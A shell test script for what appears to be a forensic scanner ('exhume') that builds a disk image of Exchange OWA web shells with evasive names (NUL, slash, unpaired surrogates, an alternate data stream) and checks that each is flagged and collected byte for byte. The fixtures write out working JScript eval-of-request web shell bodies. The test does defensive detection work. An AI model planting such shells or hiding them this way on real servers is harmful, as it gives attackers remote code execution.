#!/bin/sh
# Web shells whose names hold '\', '/', NUL or an unpaired surrogate (legal
# through CreateFileW) have display paths that do not lead back to them:
# each is still flagged and collected, by MFT reference, byte for byte.
. "$TOP/tests/lib/tap.sh"

AUTH='\Program%u0020Files\Microsoft\Exchange%u0020Server\V15\FrontEnd\HttpProxy\owa\auth'
{
	cat "$TOP/tests/fixtures/exchange-basic.spec"
	for k in 005C:bs 002F:sl 0000:nul D800:sur; do
		printf '%s\\sh%%u%sell.aspx text:%s%s%s\n' "file $AUTH" \
		    "${k%%:*}" '<script language="JScript" runat="server">' \
		    "function Page_Load(){eval(Request[\"${k##*:}\"]," \
		    '"unsafe");}</script>\r\n'
	done
	# An alternate data stream whose name holds an unpaired surrogate.
	printf '%s\\ads.aspx text:<%%@ Page Language="C#" %%>\\r\\n\n' "file $AUTH"
	printf '%s\\ads.aspx:s%%uD800x text:%s%s%s\n' "ads $AUTH" \
	    '<script language="JScript" runat="server">' \
	    'function Page_Load(){eval(Request["ads"],' \
	    '"unsafe");}</script>\r\n'
} >"$TMP/lossy.spec"
mkimage "$TMP/lossy.spec" "$TMP/l.img" || ok 1 "fixture builds"
IMAGES="$TMP/l.img"
img_sha=$(sha256sum <"$TMP/l.img")

run scan "$TMP/l.img" --bundle "$TMP/l.zip" --out "$TMP/o"
[ "$RC" -eq 1 ]; ok $? "scan --bundle finishes with findings (exit $RC)"

# One check per kind: flagged in findings.jsonl, and in the bundle as
# "collected" with the exact bytes (or, if ever impossible, listed as left
# out with a reason; never missing).
for kind in bs sl nul sur ads; do
	python3 - "$TMP/o/findings.jsonl" "$TMP/l.zip" "$kind" <<'PY'
import hashlib, json, sys, zipfile
findings, bundle, kind = sys.argv[1:]
body = ('<script language="JScript" runat="server">function Page_Load()'
        '{eval(Request["%s"],"unsafe");}</script>\r\n' % kind).encode()
sha = hashlib.sha256(body).hexdigest()
flagged = [json.loads(l) for l in open(findings, encoding='utf-8')]
flagged = [f for f in flagged if f.get('sha256') == sha]
assert flagged, 'not flagged'
z = zipfile.ZipFile(bundle)
lines = [json.loads(l) for l in z.read('manifest.jsonl').decode().splitlines()]
mine = [m for m in lines if m.get('mft') == flagged[0]['mft'] and
        m.get('stream') == flagged[0]['stream']]
assert len(mine) == 1, 'not in the manifest: %r' % mine
m = mine[0]
if m['status'] == 'left-out':
    assert m.get('why'), 'left out without a reason'
    print('# left out: %s' % m['why'])
else:
    assert m['status'] == 'collected', m['status']
    assert m['sha256'] == sha, 'hash differs'
    assert z.read(m['entry']) == body, 'bytes differ'
    assert flagged[0]['id'] in m.get('findings', []), 'finding id missing'
PY
	ok $? "the '$kind' name is flagged and collected with its bytes"
done

grep -q ' 0 left out' "$TMP/err"; ok $? "nothing is left out (\"0 left out\")"
run verify "$TMP/l.zip"
ok $RC "exhume verify accepts the bundle"
# A display path is no entry name: "sh" (NUL) and "sh\ell.aspx" must not
# turn into a file and a directory of one name.
mkdir "$TMP/x" && (cd "$TMP/x" && unzip -q ../l.zip && sha256sum -c --quiet SHA256SUMS)
ok $? "unzip + sha256sum -c SHA256SUMS verifies (no entry names collide)"
# The volume call under it: a stream opens by MFT reference and stored
# name (as reported, "%uD800" for the surrogate), and a reference whose
# sequence no longer matches is refused, never read as another file.
REF="$TOOLS/stream-ref"
ADS='\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\ads.aspx'
"$REF" "$TMP/l.img" "$ADS" 0 's%uD800x' >"$TMP/ref" 2>&1
grep -q '^ok [0-9a-f]\{64\}$' "$TMP/ref"; ok $? "a stream named with an unpaired surrogate opens by MFT reference"
"$REF" "$TMP/l.img" "$ADS" 1 's%uD800x' >"$TMP/ref" 2>&1
grep -q '^error 7: .*now holds another file$' "$TMP/ref"
ok $? "a reference with another sequence number is refused (record reused)"
[ "$(sha256sum <"$TMP/l.img")" = "$img_sha" ]; ok $? "the image is unchanged"
report_unchanged
done_testing
